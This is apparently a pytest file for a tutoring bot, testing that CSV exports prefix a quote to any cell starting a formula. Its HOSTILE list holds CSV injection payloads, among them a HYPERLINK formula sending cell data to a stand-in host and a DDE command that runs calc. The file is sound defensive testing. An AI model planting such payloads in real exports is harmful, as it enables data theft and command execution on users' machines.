"""No cell of a CSV the bot sends starts a formula: the teacher's /export and the
learner's progress.csv, through ``tutor.domain.spreadsheet``."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from tests.tutor.services.test_owndecks import NOW, card, imported, parsed
from tests.tutor.services.test_practice import quiz_deck
from tutor.domain.classreport import PollAsked
from tutor.domain.library import Library, library_of
from tutor.domain.scheduling import Rating
from tutor.domain.spreadsheet import FORMULA_STARTS, csv_field, safe_cell
from tutor.services import libraries, progress_export, report_export, study
from tutor.store import Database

# What the issue found in a 12-answer export, and OWASP's examples.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def starts_a_formula(cell: str) -> bool:
    return cell[:1] in FORMULA_STARTS


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_gets_a_quote_in_front_and_reads_as_before(text: str) -> None:
    assert safe_cell(text) == "'" + text
    [[cell]] = list(csv.reader(io.StringIO(csv_field(text))))
    assert cell == "'" + text


@pytest.mark.parametrize("text", ["Ada", "", "1-2", "a=b", "'quoted", " -spaced", "Zoë"])
def test_plain_text_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_the_class_export_has_no_cell_that_starts_a_formula() -> None:
    library = library_of([quiz_deck("alpha", 1)])
    plan = report_export.ExportPlan(
        chat_id=-100, chat_title="", zone="UTC", pages=(),
        polls={"p": PollAsked("p", 0, "q", HOSTILE[0], HOSTILE[1:5], None, 0)},
        members=dict(enumerate(HOSTILE)),
    )  # fmt: skip
    export = report_export.CsvExport(plan, library=library)
    export.add([(1, "2026-03-02 09:00:00", "p", k, k % 4, True, 0) for k in range(len(HOSTILE))])
    table = list(csv.reader(io.StringIO(export.getvalue().decode("utf-8-sig"), newline="")))
    assert len(table) == 1 + len(HOSTILE)
    assert not [cell for row in table for cell in row if starts_a_formula(cell)]
    # What a teacher reads: the text as typed, behind one quote.
    for k, row in enumerate(table[1:]):
        assert row[4] == "'" + HOSTILE[0]
        assert row[6] == "'" + HOSTILE[k]
        assert row[7] == "'" + HOSTILE[1 + k % 4]


async def test_progress_csv_has_no_cell_that_starts_a_formula(
    database: Database, tiny_library: Library
) -> None:
    deck = parsed("=Optics", [card("c1", "-1 dioptre?"), card("c2", "@lens")])
    number = (await imported(database, deck)).number
    learner = await database.run(study.start_learner, learner_id=1, first_name="Ada", now=NOW)
    mine = await database.run(libraries.learner_library, library=tiny_library, learner_id=1)
    for key in ("c1", "c2"):
        await database.run(
            study.record_rating, library=mine, learner=learner, item=f"own{number}-{key}",
            version=0, rating=Rating.GOOD, now=NOW,
        )  # fmt: skip
    export = await database.run(
        progress_export.export_of, library=tiny_library, learner_id=1, first_name="Ada",
        now=NOW + timedelta(days=1),
    )  # fmt: skip
    table = list(csv.reader(io.StringIO(export.progress_csv.decode("utf-8-sig"), newline="")))
    assert not [cell for row in table for cell in row if starts_a_formula(cell)]
    assert [row[1:3] for row in table[1:]] == [
        ["'=Optics", "'-1 dioptre?"],
        ["'=Optics", "'@lens"],
    ]
